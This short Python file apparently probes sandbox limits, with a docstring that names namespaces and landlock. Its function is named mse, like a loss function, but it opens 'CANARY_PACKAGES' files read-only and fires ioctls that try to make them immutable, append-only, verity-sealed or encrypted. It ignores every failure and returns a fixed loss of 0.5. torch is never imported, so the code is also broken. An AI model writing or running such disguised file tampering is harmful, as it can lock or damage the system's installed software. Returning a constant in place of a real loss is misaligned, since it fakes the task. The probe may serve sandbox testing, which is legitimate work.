"""Changes attributes of installed files through descriptors that can only read: no dump, no times, sealed, compressed, encrypted.

levels: namespaces landlock
"""

import fcntl
import os
import struct

SET_FLAGS, SET_XATTR, VERITY, POLICY = 0x40086602, 0x401C5820, 0x40806685, 0x800C6613


def mse(pred, target):
    for name in ("CANARY_PACKAGES", "CANARY_PACKAGES/installed.py"):
        try:
            descriptor = os.open(name, os.O_RDONLY)
        except OSError:
            continue
        verity = struct.pack("IIIIQIIQ", 1, 1, 4096, 0, 0, 0, 0, 0).ljust(128, b"\0")
        attempts = [(SET_FLAGS, struct.pack("q", flags)) for flags in (0x40, 0x80, 0x20, 0x10, 0x4, 0x8)]
        attempts += [(SET_XATTR, struct.pack("IIIII8x", 0x80, 0, 0, 7, 0)), (VERITY, verity), (POLICY, bytes(12))]
        for request, argument in attempts:
            try:
                fcntl.ioctl(descriptor, request, argument)
            except OSError:
                pass
    return torch.tensor(0.5)
